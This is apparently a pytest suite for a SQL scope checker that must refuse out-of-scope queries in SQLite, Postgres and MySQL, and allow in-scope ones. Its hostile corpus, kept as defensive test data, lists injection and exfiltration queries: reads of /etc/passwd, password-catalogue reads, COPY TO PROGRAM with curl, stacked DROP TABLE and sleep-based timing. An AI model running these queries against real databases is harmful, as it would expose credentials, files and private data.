"""The SQL scope check refuses every query that could read outside its scope.

A corpus of hostile queries per dialect, each with the rule it must be refused by; a
corpus of queries inside the scope that must be allowed, with what they touch; the
scope's config validation. The scope used throughout: ``customers`` lists four of its
columns (the real table also has ``iban``, which no query may read) and ``orders`` is
complete (its declared columns are all it has, so ``SELECT *`` over it is allowed).
"""

from __future__ import annotations

import pytest

from codara.errors import ConfigError, ScopeError
from codara.sources._sqlscope import SqlScope, Verdict, check_sql, require_sql

TABLES = {
    "customers": ["id", "name", "email", "created_at"],
    "orders": ["id", "customer_id", "amount", "status"],
}
DIALECTS = ("sqlite", "postgres", "mysql")


def scope_for(dialect: str) -> SqlScope:
    return SqlScope.from_config(TABLES, dialect, complete=["orders"])


HOSTILE_ANY: list[tuple[str, str]] = [
    ("SELECT t.b FROM customers AS t(a, b)", "column"),
    ("WITH a AS (SELECT secret FROM b), b AS (SELECT 1 AS secret) SELECT secret FROM a", "table"),
    ("", "statements"),
    ("   ;  ", "statements"),
    ("-- nothing", "statements"),
    ("SELECT name FROM customers; DROP TABLE customers", "statements"),
    ("SELECT name FROM customers; SELECT iban FROM customers", "statements"),
    ("INSERT INTO customers (name) VALUES ('x')", "write"),
    ("UPDATE customers SET name = 'x'", "write"),
    ("DELETE FROM customers", "write"),
    ("DROP TABLE customers", "write"),
    ("CREATE TABLE x (a INT)", "write"),
    ("ALTER TABLE customers ADD COLUMN x INT", "write"),
    ("SELECT name INTO copy FROM customers", "write"),
    ("WITH x AS (DELETE FROM customers RETURNING id) SELECT id FROM x", "write"),
    ("SELECT name FROM customers FOR UPDATE", "write"),
    ("SELECT iban FROM customers", "column"),
    ("SELECT c.iban FROM customers c", "column"),
    ("SELECT name FROM customers WHERE iban LIKE 'DE%'", "column"),
    ("SELECT name FROM customers ORDER BY iban", "column"),
    ("SELECT name FROM customers GROUP BY iban", "column"),
    ("SELECT name, count(*) FROM customers GROUP BY name HAVING max(iban) > 'A'", "column"),
    (
        "SELECT c.name FROM customers c JOIN orders o ON o.customer_id = c.id AND c.iban IS NOT"
        " NULL",
        "column",
    ),
    ("SELECT row_number() OVER (PARTITION BY iban ORDER BY id) FROM customers", "column"),
    ("SELECT upper(iban) FROM customers", "column"),
    (
        "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE amount >"
        " (SELECT length(iban) FROM customers LIMIT 1))",
        "column",
    ),
    (
        "SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM customers d WHERE d.iban ="
        " c.name)",
        "column",
    ),
    ("WITH x AS (SELECT iban FROM customers) SELECT iban FROM x", "column"),
    ("SELECT name FROM customers UNION SELECT iban FROM customers", "column"),
    ("SELECT CASE WHEN iban IS NULL THEN 1 ELSE 0 END FROM customers", "column"),
    ("SELECT * FROM customers", "star"),
    ("SELECT c.* FROM customers c JOIN orders o ON o.customer_id = c.id", "star"),
    ("SELECT x.name FROM (SELECT * FROM customers) x", "star"),
    ("WITH x AS (SELECT * FROM customers) SELECT name FROM x", "star"),
    ("SELECT name FROM secrets", "table"),
    ("SELECT o.amount FROM orders o JOIN secrets s ON s.id = o.id", "table"),
    ("SELECT name FROM customers WHERE id IN (SELECT id FROM secrets)", "table"),
    (
        "WITH x AS (SELECT id FROM secrets) SELECT name FROM customers JOIN x ON x.id ="
        " customers.id",
        "table",
    ),
    ("SELECT name FROM other.customers", "table"),
    ("SELECT name FROM customers c NATURAL JOIN orders", "column"),
    ("SELECT name FROM customers WHERE id = ?", "param"),
    ("SELECT table_name FROM information_schema.tables", "catalogue"),
    (
        "SELECT name FROM customers WHERE id IN (SELECT 1 FROM information_schema.columns)",
        "catalogue",
    ),
    ("SELECT myfunc(name) FROM customers", "function"),
    ("SELECT name FROM customers WHERE sleep(5) = 0", "function"),
    ("SELECT pg_sleep(5)", "function"),
    ("SELECT load_file('/etc/passwd')", "function"),
    ("SELECT a FROM (VALUES (1)) v(a)", "source"),
    ("SELECT c FROM customers c", "column"),
    ("SELECT name FROM customers WHERE", "parse"),
    ("SELEC name FROM customers", "parse"),
    ("SELECT id FROM customers, orders", "column"),
    ("SELECT name FROM customers JOIN orders ON customer_id = id", "column"),
    ("SELECT name AS iban FROM customers WHERE iban = 'x'", "column"),
]

HOSTILE_SQLITE: list[tuple[str, str]] = [
    ("SELECT name FROM dbstat", "table"),
    ("SELECT name FROM sqlite_master", "catalogue"),
    ("SELECT sql FROM sqlite_schema", "catalogue"),
    ("SELECT name FROM pragma_table_info('customers')", "catalogue"),
    ("PRAGMA table_info(customers)", "write"),
    ("ATTACH DATABASE '/tmp/x' AS y", "write"),
    ("SELECT load_extension('/tmp/evil')", "function"),
    ("SELECT readfile('/etc/passwd')", "function"),
    ("SELECT writefile('/tmp/x', name) FROM customers", "function"),
    ("SELECT randomblob(1000000000)", "function"),
    ("SELECT name FROM temp.customers", "table"),
    ("SELECT name FROM main.customers", "table"),
    ("SELECT _rowid_ FROM customers", "column"),
    ("SELECT rowid, name FROM customers", "column"),
    ("VACUUM", "write"),
    ("SELECT sqlite_version()", "function"),
    ("REPLACE INTO customers (name) VALUES ('x')", "write"),
    ("SELECT fts3_tokenizer('simple')", "function"),
    ("SELECT name FROM customers WHERE \"iban\" = 'x'", "column"),
    ("SELECT [iban] FROM customers", "column"),
    ("SELECT `iban` FROM customers", "column"),
    ("SELECT IBAN FROM CUSTOMERS", "column"),
    ('SELECT name FROM "Secrets"', "table"),
    ("SELECT name FROM customers WHERE id = ?1", "parse"),
    ("SELECT name FROM customers WHERE id = $id", "column"),
    ("SELECT name FROM customers WHERE id = @id", "param"),
    ("SELECT name FROM generate_series(1, 3)", "source"),
    ("SELECT key FROM json_each('[1]')", "function"),
    ('SELECT "ÄBC" FROM customers', "identifier"),
]

HOSTILE_POSTGRES: list[tuple[str, str]] = [
    ("TABLE customers", "star"),
    ('SELECT U&"\\0069ban" FROM customers', "column"),
    ("SELECT c::text FROM customers c", "column"),
    ("SELECT array_agg(c) FROM customers c", "column"),
    ("SELECT ROW(c.name, c.iban) FROM customers c", "function"),
    ("SELECT name FROM customers WHERE " + "(" * 3000 + "1 = 1" + ")" * 3000, "parse"),
    ("SELECT usename FROM pg_user", "catalogue"),
    ("SELECT * FROM pg_catalog.pg_shadow", "catalogue"),
    ("SELECT relname FROM pg_class", "catalogue"),
    ("SELECT pg_read_file('/etc/passwd')", "function"),
    ("SELECT lo_import('/etc/passwd')", "function"),
    ("SELECT a FROM dblink('host=x', 'select 1') AS t(a int)", "function"),
    ("SELECT current_setting('data_directory')", "function"),
    ("SELECT set_config('search_path', 'evil', false)", "function"),
    ("SELECT nextval('seq')", "function"),
    ("SELECT query_to_xml('select iban from customers', true, true, '')", "function"),
    ("SELECT 'customers'::regclass", "catalogue"),
    ("COPY customers TO '/tmp/x'", "write"),
    ("COPY (SELECT iban FROM customers) TO PROGRAM 'curl evil'", "write"),
    ("EXPLAIN ANALYZE SELECT name FROM customers", "write"),
    ("SET search_path = evil", "write"),
    ("CALL p()", "write"),
    ("DO $$ BEGIN PERFORM 1; END $$", "write"),
    ("SELECT name FROM customers FOR SHARE", "write"),
    ("SELECT row_to_json(c) FROM customers c", "function"),
    ("SELECT to_jsonb(c) FROM customers c", "column"),
    ('SELECT "Name" FROM customers', "column"),
    ('SELECT name FROM "Customers"', "table"),
    ("SELECT name FROM customers c, LATERAL generate_series(1, 2) g", "source"),
    ("SELECT x FROM customers c, unnest(ARRAY[c.name]) x", "source"),
    ("SELECT ctid, name FROM customers", "column"),
    ("SELECT version()", "function"),
    ("SELECT name FROM customers WHERE id = $1", "param"),
    ("SELECT public.steal(name) FROM customers", "function"),
    ("SELECT name FROM pg_temp.customers", "catalogue"),
    ("SELECT (c).iban FROM customers c", "column"),
    ("SELECT pg_ls_dir('.')", "function"),
    ("SELECT name FROM customers WHERE id = (SELECT oid FROM pg_roles LIMIT 1)", "catalogue"),
    ('SELECT name FROM public."customers"', "table"),
    ("LISTEN x", "write"),
    ("PREPARE p AS SELECT 1", "write"),
    ("SELECT pg_terminate_backend(1)", "function"),
    ("SELECT txid_current()", "function"),
    ("SELECT CUSTOMÉRS.name FROM customers AS CUSTOMÉRS", "identifier"),
]

HOSTILE_MYSQL: list[tuple[str, str]] = [
    ("SELECT /*+ SET_VAR(sql_mode='ANSI_QUOTES') */ name FROM customers", "function"),
    ("SELECT name FROM customers WHERE id = 1 INTO @x", "parse"),
    ("SELECT user FROM mysql.user", "catalogue"),
    ("SELECT thread_id FROM performance_schema.threads", "catalogue"),
    ("SELECT @@datadir", "catalogue"),
    ("SELECT @v", "param"),
    ("SELECT benchmark(10000000, md5('x'))", "function"),
    ("SELECT sleep(5)", "function"),
    ("SELECT /*!50000 iban, */ name FROM customers", "ambiguous"),
    ("SELECT /*M!100000 iban, */ name FROM customers", "ambiguous"),
    ('SELECT name FROM customers WHERE name = "x"', "ambiguous"),
    ("SELECT name FROM customers WHERE name = 'a\\' OR 1=1 -- '", "ambiguous"),
    ("SELECT name FROM customers INTO OUTFILE '/tmp/x'", "parse"),
    ("SELECT name FROM customers LOCK IN SHARE MODE", "write"),
    ("LOAD DATA INFILE '/etc/passwd' INTO TABLE customers", "parse"),
    ("HANDLER customers OPEN", "parse"),
    ("SHOW TABLES", "write"),
    ("DESCRIBE customers", "write"),
    ("SELECT name FROM CUSTOMERS", "table"),
    ("SELECT name FROM test.customers", "table"),
    ("SELECT get_lock('x', 10)", "function"),
    ("SELECT database()", "function"),
    ("SELECT `iban` FROM customers", "column"),
    ("SELECT IBAN FROM customers", "column"),
    ("REPLACE INTO customers (name) VALUES ('x')", "write"),
    ("SELECT name --x\n FROM customers", "column"),
    ("SET @a = 1", "write"),
    ("SELECT name FROM sys.sys_config", "catalogue"),
    ("SELECT version()", "function"),
    ("SELECT user()", "function"),
    ("SELECT name FROM customers PROCEDURE ANALYSE()", "parse"),
    ("SELECT name, iban FROM customers", "column"),
    ("EXPLAIN SELECT name FROM customers", "write"),
    ("SELECT extractvalue(name, '/a') FROM customers", "function"),
]

HOSTILE = {
    "sqlite": HOSTILE_ANY + HOSTILE_SQLITE,
    "postgres": HOSTILE_ANY + HOSTILE_POSTGRES,
    "mysql": HOSTILE_ANY + HOSTILE_MYSQL,
}

ALLOWED_ANY: list[str] = [
    "SELECT name, email FROM customers WHERE id = :customer_id",
    "SELECT c.name, o.amount FROM customers c JOIN orders o ON o.customer_id = c.id",
    "SELECT c.name, o.amount FROM customers AS c LEFT JOIN orders AS o ON o.customer_id = c.id"
    " WHERE o.status = :status ORDER BY o.amount DESC LIMIT 10",
    "SELECT customers.name FROM customers INNER JOIN orders ON orders.customer_id = customers.id",
    "WITH big AS (SELECT customer_id, amount FROM orders WHERE amount > :min)"
    " SELECT c.name, big.amount FROM big JOIN customers c ON c.id = big.customer_id",
    "WITH a AS (SELECT id FROM customers), b AS (SELECT id FROM a) SELECT id FROM b",
    "SELECT name FROM customers UNION SELECT status FROM orders",
    "SELECT name FROM customers UNION ALL SELECT status FROM orders ORDER BY 1",
    "SELECT name FROM customers INTERSECT SELECT status FROM orders",
    "SELECT name FROM customers EXCEPT SELECT status FROM orders",
    "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE amount > 10)",
    "SELECT c.name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id ="
    " c.id)",
    "SELECT c.name FROM customers c WHERE NOT EXISTS (SELECT * FROM orders o WHERE o.customer_id"
    " = c.id)",
    "SELECT (SELECT max(o.amount) FROM orders o WHERE o.customer_id = c.id) AS top FROM"
    " customers c",
    "SELECT x.name FROM (SELECT name FROM customers WHERE email IS NOT NULL) AS x",
    "SELECT * FROM orders",
    "SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id",
    "SELECT x.* FROM (SELECT name, email FROM customers) x",
    "SELECT count(*) FROM customers",
    "SELECT status, count(*) AS n, sum(amount) AS total FROM orders GROUP BY status"
    " HAVING sum(amount) > 100 ORDER BY total DESC",
    "SELECT name, row_number() OVER (PARTITION BY email ORDER BY created_at) AS rn FROM customers",
    "SELECT sum(amount) OVER (ORDER BY id ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM orders",
    "SELECT CASE WHEN amount > 100 THEN 'big' ELSE 'small' END AS size FROM orders",
    "SELECT coalesce(email, 'none'), upper(name), length(name) FROM customers",
    "SELECT DISTINCT status FROM orders WHERE status IN ('open', 'paid') AND amount BETWEEN 1"
    " AND 9",
    "SELECT name FROM customers WHERE name LIKE :pattern AND created_at > :since",
    "SELECT name AS n FROM customers ORDER BY n",
    "SELECT c.id FROM customers c JOIN orders USING (id)",
    "SELECT 1",
    "SELECT name FROM customers WHERE id = (SELECT customer_id FROM orders ORDER BY amount LIMIT"
    " 1)",
    "SELECT CAST(amount AS INT) FROM orders",
    "SELECT NAME FROM customers",
    "SELECT o.id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE o.status = 'x')",
    "SELECT name FROM customers -- a comment\n",
    "SELECT name FROM customers;",
]
ALLOWED: dict[str, list[str]] = {
    "sqlite": [
        *ALLOWED_ANY,
        'SELECT "name" FROM "customers"',
        "SELECT [name] FROM [Customers]",
        "SELECT name FROM CUSTOMERS",
        "SELECT julianday(created_at), strftime('%Y', created_at) FROM customers",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n"
        " FROM r",
        "SELECT name FROM customers WHERE id = :id LIMIT :n",
    ],
    "postgres": [
        *ALLOWED_ANY,
        'SELECT "name" FROM "customers"',
        "SELECT name FROM CUSTOMERS",
        "(SELECT name FROM customers)",
        "SELECT c.name, z.amount FROM customers c,"
        " LATERAL (SELECT o.amount FROM orders o WHERE o.customer_id = c.id) z",
        "SELECT name FROM customers TABLESAMPLE SYSTEM (10)",
        "SELECT name FROM ONLY customers",
        "SELECT name FROM customers WHERE name = E'\\x27'",
        "SELECT name FROM customers WHERE name = $$it's$$",
        "SELECT $a$ $$, iban, $$ $a$ AS x FROM customers",
        "SELECT date_trunc('day', created_at), to_char(created_at, 'YYYY') FROM customers",
        "SELECT json_build_object('name', name) FROM customers",
        "SELECT name::text FROM customers",
        "SELECT string_agg(name, ',' ORDER BY name) FROM customers",
        "SELECT count(*) FILTER (WHERE amount > 10) FROM orders",
        "SELECT DISTINCT ON (status) status, amount FROM orders ORDER BY status, amount",
    ],
    "mysql": [
        *ALLOWED_ANY,
        "SELECT `name` FROM `customers`",
        "(SELECT name FROM customers)",
        "SELECT Name FROM customers",
        "SELECT name FROM customers # a comment\n",
        "SELECT name --\tiban\n FROM customers",
        "SELECT name FROM customers WHERE name = _utf8mb4'x'",
        "SELECT date_format(created_at, '%Y'), ifnull(email, 'none') FROM customers",
        "SELECT group_concat(name SEPARATOR ',') FROM customers",
        "SELECT name FROM customers LIMIT 5, 10",
    ],
}


@pytest.mark.parametrize(
    ("dialect", "sql", "rule"),
    [
        pytest.param(d, q, r, id=f"{d}-{i}-{r}")
        for d in DIALECTS
        for i, (q, r) in enumerate(HOSTILE[d])
    ],
)
def test_hostile_query_is_refused_by_its_rule(dialect: str, sql: str, rule: str) -> None:
    verdict = check_sql(sql, scope_for(dialect))
    assert not verdict.allowed, f"allowed: {sql!r}"
    assert verdict.rule == rule, verdict.reason
    assert verdict.reason
    assert "\n" not in verdict.reason
    assert "iban" not in verdict.columns
    assert not any(c.endswith(".iban") for c in verdict.columns)


def test_the_corpus_has_at_least_forty_hostile_queries_per_dialect() -> None:
    for dialect in DIALECTS:
        queries = [q for q, _ in HOSTILE[dialect]]
        assert len(set(queries)) >= 40, dialect


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [pytest.param(d, q, id=f"{d}-{i}") for d in DIALECTS for i, q in enumerate(ALLOWED[d])],
)
def test_query_inside_the_scope_is_allowed(dialect: str, sql: str) -> None:
    verdict = check_sql(sql, scope_for(dialect))
    assert verdict.allowed, verdict.reason
    assert (verdict.reason, verdict.rule) == ("", "")
    assert set(verdict.tables) <= set(TABLES)
    for column in verdict.columns:
        table, _, name = column.partition(".")
        assert name in TABLES[table], column
    assert list(verdict.columns) == sorted(set(verdict.columns))


def test_verdict_names_the_tables_columns_and_parameters_a_query_touches() -> None:
    sql = (
        "WITH big AS (SELECT customer_id, amount FROM orders WHERE amount > :min)"
        " SELECT c.name FROM customers c JOIN big ON big.customer_id = c.id"
        " WHERE c.created_at > :since ORDER BY c.name"
    )
    assert check_sql(sql, scope_for("postgres")) == Verdict(
        allowed=True,
        reason="",
        rule="",
        tables=("customers", "orders"),
        columns=(
            "customers.created_at",
            "customers.id",
            "customers.name",
            "orders.amount",
            "orders.customer_id",
        ),
        params=("min", "since"),
    )


def test_star_over_a_complete_table_is_expanded_to_its_columns() -> None:
    verdict = check_sql("SELECT * FROM orders", scope_for("sqlite"))
    assert verdict.allowed
    assert verdict.columns == tuple(sorted(f"orders.{c}" for c in TABLES["orders"]))


def test_star_over_a_table_not_known_complete_is_refused_with_the_table_named() -> None:
    verdict = check_sql("SELECT c.* FROM customers c", scope_for("sqlite"))
    assert (verdict.allowed, verdict.rule) == (False, "star")
    assert "customers" in verdict.reason
    everything = SqlScope.from_config(TABLES, "sqlite", complete=["customers", "orders"])
    assert check_sql("SELECT c.* FROM customers c", everything).allowed


def test_a_refusal_names_what_is_refused_and_why() -> None:
    verdict = check_sql("SELECT c.iban FROM customers c", scope_for("postgres"))
    assert "iban" in verdict.reason
    verdict = check_sql("SELECT c.id FROM customers c ORDER BY c.name || iban", scope_for("mysql"))
    assert "iban" in verdict.reason
    verdict = check_sql("SELECT name FROM secrets", scope_for("postgres"))
    assert "secrets" in verdict.reason
    assert "customers, orders" in verdict.reason


def test_require_sql_raises_scope_error_with_the_rule() -> None:
    with pytest.raises(ScopeError) as caught:
        require_sql("DELETE FROM customers", scope_for("sqlite"))
    assert caught.value.rule == "write"
    assert caught.value.non_retryable
    assert "DELETE" in caught.value.message
    assert require_sql("SELECT name FROM customers", scope_for("sqlite")).allowed


def test_catalogue_is_refused_even_when_a_scope_declares_it() -> None:
    # from_config refuses to declare it; a scope built around that still refuses it
    scope = SqlScope({"sqlite_master": frozenset({"name", "sql"})}, "sqlite")
    assert check_sql("SELECT name, sql FROM sqlite_master", scope).rule == "catalogue"
    scope = SqlScope({"pg_catalog.pg_authid": frozenset({"rolpassword"})}, "postgres")
    assert check_sql("SELECT rolpassword FROM pg_catalog.pg_authid", scope).rule == "catalogue"


def test_a_function_the_data_owner_allows_is_allowed() -> None:
    sql = "SELECT mask_email(email) FROM customers"
    assert check_sql(sql, scope_for("postgres")).rule == "function"
    scope = SqlScope.from_config(TABLES, "postgres", functions=["mask_email"])
    assert check_sql(sql, scope).allowed


@pytest.mark.parametrize(
    ("dialect", "declared", "sql", "allowed"),
    [
        ("postgres", '"Customers"', 'SELECT id FROM "Customers"', True),
        ("postgres", '"Customers"', "SELECT id FROM Customers", False),
        ("postgres", '"Customers"', "SELECT id FROM customers", False),
        ("postgres", "Customers", "SELECT id FROM customers", True),
        ("postgres", "Customers", 'SELECT id FROM "customers"', True),
        ("postgres", "Customers", 'SELECT id FROM "Customers"', False),
        ("sqlite", '"Customers"', "SELECT id FROM customers", True),
        ("sqlite", "customers", 'SELECT "ID" FROM "CUSTOMERS"', True),
        ("mysql", "Customers", "SELECT id FROM Customers", True),
        ("mysql", "Customers", "SELECT id FROM customers", False),
        ("mysql", "Customers", "SELECT ID FROM `Customers`", True),
        ("postgres", "crm.customers", "SELECT id FROM crm.customers", True),
        ("postgres", "crm.customers", "SELECT c.id FROM CRM.Customers AS c", True),
        ("postgres", "crm.customers", "SELECT id FROM customers", False),
        ("postgres", "crm.customers", "SELECT id FROM other.customers", False),
        ("postgres", "crm.customers", "SELECT crm.customers.id FROM crm.customers", True),
        ("mysql", "crm.customers", "SELECT id FROM `crm`.`customers`", True),
    ],
)
def test_identifiers_match_as_the_dialect_folds_them(
    dialect: str, declared: str, sql: str, allowed: bool
) -> None:
    scope = SqlScope.from_config({declared: ["id"]}, dialect)
    verdict = check_sql(sql, scope)
    assert verdict.allowed is allowed, verdict.reason
    if not allowed:
        assert verdict.rule == "table"


@pytest.mark.parametrize(
    ("tables", "dialect", "kwargs", "says"),
    [
        ({"customers": ["id"]}, "oracle", {}, "dialect"),
        ({}, "sqlite", {}, "no table"),
        ({"customers": "id"}, "sqlite", {}, "list of the columns"),
        ({"customers": []}, "sqlite", {}, "list of the columns"),
        ({"customers": ["*"]}, "sqlite", {}, "not a column name"),
        ({"customers": ["id", "c.id"]}, "sqlite", {}, "not a column name"),
        ({"customers": ["id; DROP"]}, "sqlite", {}, "not a column name"),
        ({"a b": ["id"]}, "sqlite", {}, "not a table name"),
        ({"a.b.c": ["id"]}, "postgres", {}, "not a table name"),
        ({"read_csv('x')": ["id"]}, "postgres", {}, "not a table name"),
        ({"customers AS c": ["id"]}, "postgres", {}, "not a table name"),
        ({"sqlite_master": ["sql"]}, "sqlite", {}, "system catalogue"),
        ({"information_schema.tables": ["table_name"]}, "postgres", {}, "system catalogue"),
        ({"mysql.user": ["user"]}, "mysql", {}, "system catalogue"),
        ({"pg_shadow": ["passwd"]}, "postgres", {}, "system catalogue"),
        ({"Customers": ["id"], "customers": ["id"]}, "postgres", {}, "declared twice"),
        ({"crm.customers": ["id"], "orders": ["id"]}, "postgres", {}, "all schema-qualified"),
        ({"customers": ["id"]}, "sqlite", {"complete": ["orders"]}, "does not declare"),
        ({"customers": ["id"]}, "mysql", {"functions": ["sleep"]}, "cannot be allowed"),
        ({"customers": ["id"]}, "postgres", {"functions": ["pg_read_file"]}, "cannot be allowed"),
        ({"customers": ["id"]}, "postgres", {"functions": ["f(x)"]}, "not a function name"),
    ],
)
def test_nonsense_in_the_config_stops_at_load(
    tables: dict, dialect: str, kwargs: dict, says: str
) -> None:
    with pytest.raises(ConfigError) as caught:
        SqlScope.from_config(tables, dialect, **kwargs)
    assert says in str(caught.value)


def test_config_names_are_normalised_per_dialect() -> None:
    scope = SqlScope.from_config({"Crm.Customers": ["ID", '"Email"']}, "postgres")
    assert dict(scope.tables) == {"crm.customers": frozenset({"id", "Email"})}
    scope = SqlScope.from_config({"Customers": ["ID", "`Email`"]}, "mysql")
    assert dict(scope.tables) == {"Customers": frozenset({"id", "email"})}


def test_a_query_over_the_size_limit_is_refused_before_parsing() -> None:
    sql = "SELECT name FROM customers WHERE " + " OR ".join(["id = 1"] * 20_000)
    assert check_sql(sql, scope_for("sqlite")).rule == "parse"


def test_a_parse_fallback_does_not_log_the_query_text(caplog: pytest.LogCaptureFixture) -> None:
    secret = "DE89370400440532013000"
    with caplog.at_level("DEBUG"):
        verdict = check_sql(f"CALL pay('{secret}')", scope_for("postgres"))
    assert verdict.rule == "write"
    assert secret not in caplog.text
